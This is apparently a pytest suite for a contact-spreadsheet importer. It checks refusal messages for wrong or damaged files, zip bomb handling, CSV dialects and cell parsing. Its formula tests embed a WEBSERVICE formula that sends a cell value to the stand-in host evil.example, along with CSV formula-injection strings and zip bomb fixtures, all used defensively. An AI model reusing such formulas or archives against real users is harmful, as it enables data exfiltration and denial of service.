"""IMPORTARE I CONTATTI, the files themselves: what is refused (with its Italian message, and
nothing stored), and what every kind of spreadsheet people save imports to."""

from __future__ import annotations

import io
import random
import time
import zipfile
from datetime import date

import pytest
from contacts_helpers import (
    FAILED_ONLY,
    HTML_XLS,
    MANUAL_HEADER,
    MANUAL_ROWS,
    NOTHING,
    PDF,
    collect,
    csv_bytes,
    docx_bytes,
    encrypted_xlsx,
    error_text,
    formatted_down_xlsx,
    header_row,
    million_rows_xlsx,
    ods_odfpy,
    read_csv,
    run_import,
    stored,
    xls_xlwt,
    xlsx_by_hand,
    xlsx_openpyxl,
    zip_bomb,
)

from corriere.platform.contacts.exporting import export_csv, export_xlsx, file_chunks
from corriere.platform.contacts.importing.readers import ImportRefused
from corriere.platform.contacts.importing.services import ImportTarget, contact_import_start
from corriere.platform.contacts.queries import (
    ContactFilter,
    contact_by_mobile,
    contacts_search,
    groups_list,
)

FIERA = ImportTarget(new_group="Fiera")
SIMPLE = xlsx_openpyxl(["Cellulare", "Nome"], [[393351234567, "Mario"]])
PLAIN_CSV = b"Cellulare;Nome\r\n393351234567;Mario\r\n393351234568;Lucia\r\n"


@pytest.fixture(scope="module")
def million() -> bytes:
    return million_rows_xlsx(1_000_000)


@pytest.fixture(scope="module")
def formatted() -> bytes:
    return formatted_down_xlsx(1_000_000)


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    return {
        "honest": zip_bomb(300),
        "lying": zip_bomb(300, declared_size=4096),
        "ods": zip_bomb(300, kind="ods"),
        "ods-lying": zip_bomb(300, declared_size=4096, kind="ods"),
    }


# ---------------------------------------------------------------------------- refused at once


def _random_binary() -> bytes:
    data = random.Random(7).randbytes(8192)
    assert b"\0" in data and not data.startswith((b"PK", b"%PDF", b"\xd0\xcf"))
    return data


@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        pytest.param("rubrica.pdf", PDF, "Il file è un PDF, non un foglio di calcolo", id="pdf"),
        pytest.param(
            "rubrica.xlsx", PDF, "Il file è un PDF, non un foglio di calcolo", id="pdf-as-xlsx"
        ),
        pytest.param(
            "rubrica.xlsx", _random_binary(), "Formato del file non riconosciuto", id="binary"
        ),
        pytest.param(
            "foto.xlsx",
            b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
            "Formato del file non riconosciuto",
            id="png",
        ),
        pytest.param("rubrica.docx", docx_bytes(), "è un documento di testo", id="docx"),
        pytest.param("rubrica.xls", docx_bytes(), "è un documento di testo", id="docx-as-xls"),
        pytest.param("rubrica.xls", HTML_XLS, "è una pagina web o un XML", id="html-as-xls"),
        pytest.param(
            "rubrica.xls", b"\xef\xbb\xbf" + HTML_XLS, "è una pagina web o un XML", id="html-bom"
        ),
        pytest.param(
            "rubrica.xls",
            b"\r\n<table><tr><td>Cellulare</td></tr><tr><td>393351234567</td></tr></table>",
            "è una pagina web o un XML",
            id="html-table-only",
        ),
        pytest.param(
            "rubrica.xlsx",
            encrypted_xlsx(SIMPLE),
            "Il file è protetto da password: toglila e riprova",
            id="encrypted",
        ),
        pytest.param("rubrica.xlsx", b"", "Il file è vuoto", id="zero-bytes"),
        pytest.param("rubrica.csv", b" \r\n\r\n\t ", "Il file è vuoto", id="blank"),
        pytest.param(
            "rubrica.xlsx", SIMPLE[: len(SIMPLE) // 2], "Il file è danneggiato", id="truncated-zip"
        ),
    ],
)
async def test_not_a_spreadsheet_is_refused_at_start(account, settings, filename, data, message):
    with pytest.raises(ImportRefused) as refused:
        await contact_import_start(
            account_id=account.id, filename=filename, data=data, target=FIERA, settings=settings
        )
    assert message in refused.value.message
    assert refused.value.field == "file"
    assert await stored(account.id) == NOTHING


async def test_too_big_is_refused_at_start(account, settings):
    small = settings.model_copy(update={"import_max_bytes": 1024 * 1024})
    data = PLAIN_CSV + b"".join(b"39335%07d;Nome\r\n" % n for n in range(80_000))
    assert len(data) > small.import_max_bytes
    with pytest.raises(ImportRefused) as refused:
        await contact_import_start(account_id=account.id, data=data, target=FIERA, settings=small)
    assert refused.value.message == "Il file supera la dimensione massima di 1 MB"
    assert await stored(account.id) == NOTHING


async def test_a_csv_note_over_several_lines_imports(account, settings):
    data = b'Cellulare;Nome;Note\r\n393351234567;Mario;"prima riga\r\nseconda\r\nterza"\r\n'
    job = await run_import(account.id, settings, data=data + b"393351234568;Lucia;\r\n")
    assert (job.status, job.imported) == ("done", 2)
    found = await contact_by_mobile(account.id, "+393351234567")
    assert found is not None and found.notes.splitlines() == ["prima riga", "seconda", "terza"]


async def test_type_comes_from_content_a_csv_named_xlsx_imports(account, settings):
    job = await run_import(account.id, settings, data=PLAIN_CSV, filename="rubrica.xlsx")
    assert (job.status, job.kind, job.imported) == ("done", "csv", 2)
    found = await contact_by_mobile(account.id, "+393351234568")
    assert found is not None and found.first_name == "Lucia"


# ---------------------------------------------------------------------------- failed when run


async def _assert_failed(account_id, job, message):
    assert job.status == "failed", job
    assert message in error_text(job)
    assert (job.imported, job.updated, job.rejected, job.warnings) == (0, 0, 0, 0)
    assert await stored(account_id) == FAILED_ONLY  # no contact, no group, no rows, no file
    assert await groups_list(account_id) == []


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(
            xlsx_openpyxl(MANUAL_HEADER, []),
            "Il file non contiene righe da importare dopo le intestazioni",
            id="xlsx-header-only",
        ),
        pytest.param(
            b"\xef\xbb\xbfNome;Cognome;Cellulare\r\n;;\r\n",
            "Il file non contiene righe da importare dopo le intestazioni",
            id="csv-header-only",
        ),
        pytest.param(xlsx_by_hand(b""), "Il file è vuoto", id="xlsx-no-rows"),
        pytest.param(
            b'Cellulare;Nome\r\n393351234567;"' + b"x" * (1 << 21),
            "Il file CSV non è leggibile: controlla virgolette e separatori",
            id="csv-endless-quote",
        ),
        pytest.param(
            b'Cellulare;Nome\r\n393351234567;"Mario\r\n'
            + b"".join(b"3933512346%02d;Nome %d\r\n" % (n, n) for n in range(30)),
            "Virgolette non chiuse alla riga 2 del file CSV: le righe che seguono finirebbero"
            " in una sola cella. Correggi il file e riprova",
            id="csv-unclosed-quote",
        ),
        pytest.param(
            xlsx_openpyxl(["Nome", "Cognome", "Telefono"], [["Mario", "Rossi", "051234567"]]),
            "Manca la colonna Cellulare: la prima riga del foglio deve contenere le intestazioni"
            " (Nome, Cognome, Cellulare…). Intestazioni trovate: Nome, Cognome, Telefono",
            id="no-mobile-column",
        ),
        pytest.param(
            b"393351234567;Mario\r\n393351234568;Lucia\r\n",
            "Manca la colonna Cellulare: la prima riga del foglio deve contenere le intestazioni"
            " (Nome, Cognome, Cellulare…). Intestazioni trovate: 393351234567, Mario",
            id="no-header-row",
        ),
    ],
)
async def test_unusable_sheet_fails_and_changes_nothing(account, settings, data, message):
    job = await run_import(account.id, settings, data=data, target=FIERA)
    await _assert_failed(account.id, job, message)


async def test_more_rows_than_the_limit_fails(account, settings):
    limited = settings.model_copy(update={"import_max_rows": 10})
    rows = [[f"3933512345{n:02d}", f"Nome {n}"] for n in range(10)]
    exactly = await run_import(account.id, limited, data=csv_bytes(["Cellulare", "Nome"], rows))
    assert (exactly.status, exactly.imported) == ("done", 10)
    other = await run_import(
        account.id,
        limited,
        data=csv_bytes(["Cellulare", "Nome"], [*rows, ["393351234599", "Undicesimo"]]),
        target=FIERA,
    )
    assert other.status == "failed"
    assert error_text(other) == (
        "Il file ha più di 10 righe: dividilo in più file e importali uno alla volta"
    )
    assert (await stored(account.id)).contacts == 10  # the first import's, untouched
    assert await contact_by_mobile(account.id, "+393351234599") is None
    assert await groups_list(account.id) == []


async def test_zip_bomb_fails_without_inflating(account, settings, bombs):
    started = time.monotonic()
    job = await run_import(account.id, settings, data=bombs["honest"], target=FIERA)
    assert time.monotonic() - started < 3
    await _assert_failed(account.id, job, "possibile «zip bomb»")


async def test_zip_bomb_lying_about_its_size_fails(account, settings, bombs):
    started = time.monotonic()
    job = await run_import(account.id, settings, data=bombs["lying"], target=FIERA)
    assert time.monotonic() - started < 3
    await _assert_failed(account.id, job, "Il file è danneggiato")


@pytest.mark.parametrize(
    ("bomb", "message"),
    [("ods", "possibile «zip bomb»"), ("ods-lying", "Il file è danneggiato")],
)
async def test_ods_zip_bomb_fails_without_inflating(account, settings, bombs, bomb, message):
    started = time.monotonic()
    job = await run_import(account.id, settings, data=bombs[bomb], filename="rubrica.ods")
    assert time.monotonic() - started < 3
    assert job.kind == "ods"
    await _assert_failed(account.id, job, message)


async def test_archive_bigger_than_the_uncompressed_limit_fails(account, settings):
    """The total inflated size counts too, whatever the ratio of each member."""
    tight = settings.model_copy(update={"import_max_uncompressed": 2000})
    job = await run_import(account.id, tight, data=SIMPLE)
    await _assert_failed(account.id, job, "possibile «zip bomb»")


async def test_million_rows_above_the_limit_are_refused_quickly(
    account, settings, million, xlsx_reader
):
    limited = settings.model_copy(update={"import_max_rows": 1000})
    started = time.monotonic()
    job = await run_import(account.id, limited, data=million, target=FIERA)
    elapsed = time.monotonic() - started
    await _assert_failed(account.id, job, "Il file ha più di 1.000 righe")
    assert elapsed < 6, f"{elapsed:.1f} s to refuse"


async def test_sheet_formatted_down_to_row_million_imports_its_real_rows(
    account, settings, formatted
):
    started = time.monotonic()
    job = await run_import(account.id, settings, data=formatted)
    elapsed = time.monotonic() - started
    assert (job.status, job.imported, job.rejected, job.warnings) == ("done", 3, 0, 0)
    assert elapsed < 8, f"{elapsed:.1f} s"
    page = await contacts_search(account.id, sort="surname")
    assert sorted((c.mobile, c.first_name, c.birth_date) for c in page.rows) == [
        ("+393351234561", "Anna", None),
        ("+393351234562", "Bruno", date(1978, 4, 21)),
        ("+393351234563", "", None),
    ]


# ---------------------------------------------------------------------------- formulas


async def test_xlsx_formulas_import_their_cached_values_never_evaluated(
    account, settings, xlsx_reader
):
    body = header_row(["Nome", "Cognome", "Cellulare", "Note", "DataNascita", "Città"]) + (
        b'<row r="2">'
        b'<c r="A2" t="str"><f>CONCATENATE("Ma","rio")</f><v>Mario</v></c>'
        b'<c r="B2" t="str"><f>HYPERLINK("http://evil.example/","Rossi")</f><v>Rossi</v></c>'
        b'<c r="C2"><f>1+1</f><v>393351234561</v></c>'
        b'<c r="D2" t="e"><f>WEBSERVICE("http://evil.example/?q="&amp;C2)</f><v>#VALUE!</v></c>'
        b'<c r="E2" s="2"><f>DATE(1978,4,21)</f><v>28601</v></c>'
        b'<c r="F2" t="s"><f>A1</f><v>0</v></c>'
        b"</row>"
        b'<row r="3"><c r="A3"><f>NOW()</f></c><c r="C3"><v>393351234562</v></c></row>'
    )
    job = await run_import(account.id, settings, data=xlsx_by_hand(body, strings=["Bologna"]))
    assert (job.status, job.imported, job.rejected) == ("done", 2, 0), error_text(job)
    first = await contact_by_mobile(account.id, "+393351234561")
    assert first is not None
    assert (first.first_name, first.last_name, first.birth_date, first.city) == (
        "Mario",
        "Rossi",
        date(1978, 4, 21),
        "Bologna",
    )
    assert first.notes == ""  # an error as cached value: nothing
    second = await contact_by_mobile(account.id, "+393351234562")
    assert second is not None and second.first_name == ""  # no cached value: nothing


@pytest.mark.parametrize("date1904", [False, True], ids=["1900-dates", "1904-dates"])
async def test_xlsx_cell_shapes_read_alike_by_both_readers(
    account, settings, xlsx_reader, date1904
):
    """Rich text, entities, kept spaces, phonetic runs, cells without references, typed
    booleans and dates, and the 1904 date system of old Excel for Mac."""
    header = ["Nome", "Cognome", "Indirizzo", "Città", "Cellulare", "DataNascita"]
    header += ["SMScompleanno", "Note", "Email"]
    serial = b"27139" if date1904 else b"28601"  # 21/04/1978 either way
    body = header_row(header) + (
        b'<row r="2"><c t="s"><v>0</v></c><c t="s"><v>1</v></c><c t="s"><v>2</v></c>'
        b'<c t="s"><v>3</v></c><c t="n"><v>3.93351234567E+11</v></c>'
        b'<c s="2"><v>' + serial + b'</v></c><c t="b"><v>1</v></c>'
        b'<c t="inlineStr"><is><r><t xml:space="preserve">prima </t></r><r><t>e dopo</t></r></is></c>'
        b'<c t="str"><v>mario@example.com</v></c></row>'
        b'<row r="5"><c t="s" r="A5"><v>4</v></c><c r="E5"><v>393351234568</v></c>'
        b'<c r="F5" t="d"><v>1980-02-29T00:00:00</v></c><c r="G5" t="b"><v>0</v></c></row>'
    )
    rich = [
        "<r><t>Ma</t></r><r><rPr><b/></rPr><t>rio</t></r>",
        "<t>Rossi &amp; Figli</t>",
        '<t xml:space="preserve">  Via Roma 1  </t>',
        '<t>東京</t><rPh sb="0" eb="2"><t>トウキョウ</t></rPh>',
        "<t>Lucia</t>",
    ]
    data = xlsx_by_hand(body, rich_strings=rich, date1904=date1904)
    job = await run_import(account.id, settings, data=data)
    assert (job.status, job.imported, job.rejected, job.warnings) == ("done", 2, 0, 0), error_text(
        job
    )
    mario = await contact_by_mobile(account.id, "+393351234567")
    assert mario is not None
    assert (mario.first_name, mario.last_name, mario.address, mario.city) == (
        "Mario",
        "Rossi & Figli",
        "Via Roma 1",
        "東京",
    )
    assert (mario.birth_date, mario.birthday_sms, mario.notes, mario.email) == (
        date(1978, 4, 21),
        True,
        "prima e dopo",
        "mario@example.com",
    )
    lucia = await contact_by_mobile(account.id, "+393351234568")
    assert lucia is not None
    assert (lucia.first_name, lucia.birth_date, lucia.birthday_sms) == (
        "Lucia",
        date(1980, 2, 29),
        False,
    )


async def test_csv_formula_text_is_stored_as_text_and_exported_harmless(account, settings):
    from openpyxl import load_workbook

    data = b'Cellulare;Nome;Cognome\r\n393351234567;"=HYPERLINK(""http://x"",""y"")";@SUM(A1)\r\n'
    job = await run_import(account.id, settings, data=data, filename="rubrica.csv")
    assert (job.status, job.imported) == ("done", 1)
    found = await contact_by_mobile(account.id, "+393351234567")
    assert found is not None
    assert (found.first_name, found.last_name) == ('=HYPERLINK("http://x","y")', "@SUM(A1)")

    rows = read_csv(await collect(export_csv(account.id, ContactFilter(), [])))
    assert rows[1][:3] == ['\'=HYPERLINK("http://x","y")', "'@SUM(A1)", "393351234567"]
    xlsx = await collect(file_chunks(await export_xlsx(account.id, ContactFilter(), [])))
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    assert (sheet["A2"].value, sheet["A2"].data_type) == ('\'=HYPERLINK("http://x","y")', "s")
    assert sheet["B2"].value == "'@SUM(A1)"


# ---------------------------------------------------------------------------- the manual's sheet


def _manual(kind: str) -> bytes:
    if kind == "xlsx":
        return xlsx_openpyxl(MANUAL_HEADER, MANUAL_ROWS)
    if kind == "xls":
        return xls_xlwt(MANUAL_HEADER, MANUAL_ROWS)
    if kind == "ods":
        return ods_odfpy(MANUAL_HEADER, MANUAL_ROWS)
    return csv_bytes(MANUAL_HEADER, MANUAL_ROWS, encoding="utf-8-sig")


async def _assert_manual_book(account_id: int) -> None:
    """Every cell of the manual's example in its field."""
    first = await contact_by_mobile(account_id, "+39345678910")
    assert first is not None
    assert (
        first.first_name,
        first.last_name,
        first.gender,
        first.address,
        first.city,
        first.province,
        first.birth_date,
        first.landline,
        first.email,
        first.notes,
        first.birthday_sms,
        first.variables,
        first.source,
    ) == (
        "Primo",
        "Contatto",
        "M",
        "Via non so quale",
        "Bologna",
        "BO",
        date(1978, 4, 21),
        "051234567",
        "Esempio@dominio.it",
        "Nota 1",
        True,
        {},
        "import",
    )
    second = await contact_by_mobile(account_id, "+39345678911")
    assert second is not None
    assert (second.city, second.province, second.birth_date, second.landline) == (
        "Roma",
        "RM",
        date(1968, 12, 6),
        "0612345678",
    )
    assert second.birthday_sms is False
    third = await contact_by_mobile(account_id, "+39345678912")
    assert third is not None
    assert (third.first_name, third.last_name, third.gender, third.address) == (
        "Terza",
        "Persona",
        "F",
        "Viale dell'sms, 34",
    )
    assert (third.province, third.birth_date) == ("VE", date(1912, 12, 12))
    bare = await contact_by_mobile(account_id, "+39345678913")
    assert bare is not None
    assert (bare.first_name, bare.last_name, bare.city, bare.birth_date, bare.email) == (
        "",
        "",
        "",
        None,
        "",
    )
    antonio = await contact_by_mobile(account_id, "+39345678914")
    gustavo = await contact_by_mobile(account_id, "+39345678915")
    assert antonio is not None and (antonio.first_name, antonio.gender) == ("Antonio", "")
    assert gustavo is not None and (gustavo.first_name, gustavo.gender) == ("Gustavo", "M")


@pytest.mark.parametrize("kind", ["xlsx", "xls", "ods", "csv"])
async def test_manual_example_sheet(account, settings, kind):
    job = await run_import(account.id, settings, data=_manual(kind), filename=f"esempio.{kind}")
    assert job.status == "done", error_text(job)
    assert job.kind == kind
    assert (job.imported, job.updated, job.rejected, job.warnings) == (6, 0, 0, 0)
    assert job.understood == MANUAL_HEADER
    assert job.unknown == []
    await _assert_manual_book(account.id)


async def test_manual_example_through_the_streaming_reader(account, settings, monkeypatch):
    from corriere.platform.contacts.importing import readers

    monkeypatch.setattr(readers, "CALAMINE_SHEET_LIMIT", -1)
    job = await run_import(account.id, settings, data=_manual("xlsx"))
    assert (job.status, job.imported, job.warnings) == ("done", 6, 0), error_text(job)
    await _assert_manual_book(account.id)


async def test_manual_numbers_also_import_with_the_prefix_mode(account, settings):
    """The example's numbers already start with 39: adding the prefix leaves them as they are."""
    job = await run_import(account.id, settings, data=_manual("xls"), prefix="39")
    assert (job.status, job.imported, job.rejected) == ("done", 6, 0)
    await _assert_manual_book(account.id)


async def test_only_the_first_sheet_is_imported(account, settings):
    data = xlsx_openpyxl(["Cellulare", "Nome"], [[393351234567, "Mario"]], extra_sheets=2)
    job = await run_import(account.id, settings, data=data)
    assert (job.status, job.imported, job.other_sheets) == ("done", 1, 2)
    assert await contact_by_mobile(account.id, "+393399999990") is None


# ---------------------------------------------------------------------------- CSV dialects


@pytest.mark.parametrize(
    ("data", "delimiter"),
    [
        pytest.param(
            "\ufeffNome;Cognome;Cellulare;Città;Indirizzo\r\n"
            "Nicolò;D'Àlba;393351234567;Forlì;Via Sàffi, 3\r\n"
            "Zoë;Müller;393351234568;Cantù;\r\n".encode(),
            ";",
            id="utf8-bom-semicolons",
        ),
        pytest.param(
            "Nome,Cognome,Cellulare,Città,Indirizzo\r\n"
            'Nicolò,D\'Àlba,393351234567,Forlì,"Via Sàffi, 3"\r\n'
            "Zoë,Müller,393351234568,Cantù,\r\n".encode("cp1252"),
            ",",
            id="cp1252-commas",
        ),
        pytest.param(
            "Nome\tCognome\tCellulare\tCittà\tIndirizzo\n"
            "Nicolò\tD'Àlba\t393351234567\tForlì\tVia Sàffi, 3\n"
            "Zoë\tMüller\t393351234568\tCantù\t\n".encode(),
            "\t",
            id="tabs",
        ),
    ],
)
async def test_csv_encodings_and_separators(account, settings, data, delimiter):
    job = await run_import(account.id, settings, data=data, filename="rubrica.csv")
    assert (job.status, job.imported, job.rejected, job.warnings) == ("done", 2, 0, 0)
    assert job.header == ["Nome", "Cognome", "Cellulare", "Città", "Indirizzo"]
    first = await contact_by_mobile(account.id, "+393351234567")
    second = await contact_by_mobile(account.id, "+393351234568")
    assert first is not None and second is not None
    assert (first.first_name, first.last_name, first.city, first.address) == (
        "Nicolò",
        "D'Àlba",
        "Forlì",
        "Via Sàffi, 3",
    )
    assert (second.first_name, second.last_name, second.city) == ("Zoë", "Müller", "Cantù")
    # Search folds accents: "nicolo" finds Nicolò.
    page = await contacts_search(account.id, ContactFilter(text="nicolo alba"))
    assert [c.mobile for c in page.rows] == ["+393351234567"]


@pytest.mark.parametrize(
    ("line", "name"),
    [
        pytest.param(
            '"=HYPERLINK(""http://x"",""y"")";Rossi;393351234567',
            '=HYPERLINK("http://x","y")',
            id="quoted-formula",
        ),
        pytest.param(
            '"\'=HYPERLINK(""http://x"",""y"")";\'@Rossi;393351234567',
            '=HYPERLINK("http://x","y")',
            id="our-export",
        ),
        pytest.param("O'Brien, Mary;'-Rossi;393351234567", "O'Brien, Mary", id="apostrophes"),
    ],
)
async def test_csv_separator_comes_from_the_header_line(account, settings, line, name):
    data = f"Nome;Cognome;Cellulare\r\n{line}\r\n".encode()
    job = await run_import(account.id, settings, data=data, filename="rubrica.csv")
    assert (job.status, job.imported) == ("done", 1), error_text(job)
    found = await contact_by_mobile(account.id, "+393351234567")
    assert found is not None and found.first_name == name


async def test_headers_match_whatever_the_case_accents_and_spaces(account, settings):
    data = (
        b"cellulare;NOME;CITTA;Data Nascita;E-mail;provincia;Sms Compleanno;Codice cliente\r\n"
        b"393351234567;Mario;Bologna;21/04/1978;mario@example.com;bo;x;C-001\r\n"
    )
    job = await run_import(account.id, settings, data=data, filename="rubrica.csv")
    assert (job.status, job.imported, job.warnings) == ("done", 1, 0), error_text(job)
    assert job.unknown == ["Codice cliente"]
    found = await contact_by_mobile(account.id, "+393351234567")
    assert found is not None
    assert (
        found.first_name,
        found.city,
        found.birth_date,
        found.email,
        found.province,
        found.birthday_sms,
    ) == ("Mario", "Bologna", date(1978, 4, 21), "mario@example.com", "BO", True)
